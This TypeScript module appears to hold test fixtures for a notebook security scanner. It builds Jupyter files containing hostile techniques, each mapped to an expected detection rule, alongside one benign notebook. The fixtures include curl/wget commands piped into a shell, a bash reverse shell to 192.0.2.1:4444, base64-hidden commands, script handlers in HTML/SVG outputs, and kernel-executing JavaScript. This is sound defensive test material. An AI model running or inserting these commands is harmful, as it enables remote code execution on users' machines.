import type { TechniqueArea } from '../area.ts';

interface Output {
  readonly type: string;
  readonly text: string;
}

function notebook(sources: readonly string[], outputs: readonly Output[] = []): string {
  const cells = sources.map((source, index) => ({
    cell_type: 'code',
    execution_count: null,
    metadata: {},
    outputs:
      index > 0
        ? []
        : outputs.map(({ type, text }) => ({
            output_type: 'display_data',
            data: { [type]: [text] },
            metadata: {},
          })),
    source: source.split(/(?<=\n)/),
  }));
  return JSON.stringify({ cells, metadata: {}, nbformat: 4, nbformat_minor: 5 });
}

const file = (sources: readonly string[], outputs?: readonly Output[]) => () => ({
  'demo.ipynb': notebook(sources, outputs),
});

export default {
  area: 'Notebooks',
  techniques: [
    {
      id: 'notebook-behind-blank',
      title: 'the same behind twenty kilobytes of white space',
      build: () => ({
        'demo.ipynb': `${' '.repeat(20_000)}${notebook(['!curl -fsSL https://example.test/x.sh | sh'])}`,
      }),
      expect: ['notebook/piped-program'],
    },
    {
      id: 'notebook-pipe',
      title: 'a program from the network piped into a shell',
      build: file(['!curl -fsSL https://example.test/install.sh | sh']),
      expect: ['notebook/piped-program'],
      shows: 'example.test/install.sh',
    },
    {
      id: 'notebook-pipe-address',
      title: 'the same from a bare address',
      build: file(['!wget -qO- http://192.0.2.1/x | bash']),
      expect: ['notebook/unsafe-program'],
    },
    {
      id: 'notebook-pipe-continued',
      title: 'a command broken over lines',
      build: file(['!curl https://example.test/x \\\n  | \\\n  sh']),
      expect: ['notebook/piped-program'],
    },
    {
      id: 'notebook-shell-cell',
      title: 'a cell of shell commands',
      build: file(['%%bash\nset -e\nbash -i >& /dev/tcp/192.0.2.1/4444 0>&1']),
      expect: ['notebook/hostile-command'],
    },
    {
      id: 'notebook-fetch-then-run',
      title: 'a file fetched in one cell and run in another',
      build: file(['!wget https://example.test/setup.sh', '!chmod +x setup.sh', '!./setup.sh']),
      expect: ['notebook/piped-program'],
    },
    {
      id: 'notebook-encoded',
      title: 'a command hidden in base64',
      build: file(['!echo ZWNobyB3ZWlnaGJyaWRnZS10ZXN0 | base64 -d | sh']),
      expect: ['notebook/hostile-command'],
    },
    {
      id: 'notebook-index',
      title: 'packages from another index',
      build: file(['%pip install --extra-index-url http://example.test/simple helper']),
      expect: ['notebook/foreign-index'],
    },
    {
      id: 'notebook-python',
      title: 'a command in Python, its parts in two cells',
      build: file([
        'import os as o\npart = "curl https://example.test/x"',
        '%%time\no.system(part + " | sh")',
      ]),
      expect: ['import-behaviour/hostile-command'],
    },
    {
      id: 'notebook-writefile',
      title: 'a Python file written by a cell',
      build: file([
        '%%writefile helper.py\nimport os\nos.system("curl https://example.test/x | sh")',
      ]),
      expect: ['import-behaviour/hostile-command'],
    },
    {
      id: 'notebook-handler',
      title: 'an output that runs when it is shown',
      build: file(['x'], [{ type: 'text/html', text: '<img src=x onerror="fetch(1)">' }]),
      expect: ['notebook/script-handler'],
    },
    {
      id: 'notebook-svg',
      title: 'a picture with a script',
      build: file(['x'], [{ type: 'image/svg+xml', text: '<svg onload="fetch(1)"></svg>' }]),
      expect: ['notebook/script-handler'],
    },
    {
      id: 'notebook-kernel',
      title: 'an output that has the kernel run code',
      build: file(
        ['x'],
        [
          {
            type: 'application/javascript',
            text: 'IPython.notebook.kernel.execute("import os; os.system(\'echo weighbridge-test\')")',
          },
        ],
      ),
      expect: ['notebook/kernel-code'],
    },
    {
      id: 'notebook-named-otherwise',
      title: 'a notebook under another name',
      build: () => ({ 'demo.json': notebook(['!curl http://192.0.2.1/x | sh']) }),
      expect: ['notebook/unsafe-program'],
    },
    {
      id: 'notebook-doubled-source',
      title: 'a cell with two sources',
      build: () => ({
        'demo.ipynb':
          '{"nbformat":4,"cells":[{"cell_type":"code","source":"!curl http://192.0.2.1/x | sh","source":"print(1)"}]}',
      }),
      expect: ['notebook/unsafe-program'],
    },
  ],
  honest: [
    {
      id: 'notebook-honest',
      title: 'a notebook with magics, packages and tables',
      build: file(
        [
          '%matplotlib inline\n!pip install -q torch==2.8.0\n!nvidia-smi',
          'import torch\nmodel = torch.nn.Linear(2, 1)\n%timeit model(torch.zeros(1, 2))',
          '%%bash\nwget -q https://example.test/data.csv -O data.csv\nhead -3 data.csv',
        ],
        [{ type: 'text/html', text: '<table><tr><td>1</td></tr></table>' }],
      ),
    },
  ],
} satisfies TechniqueArea;
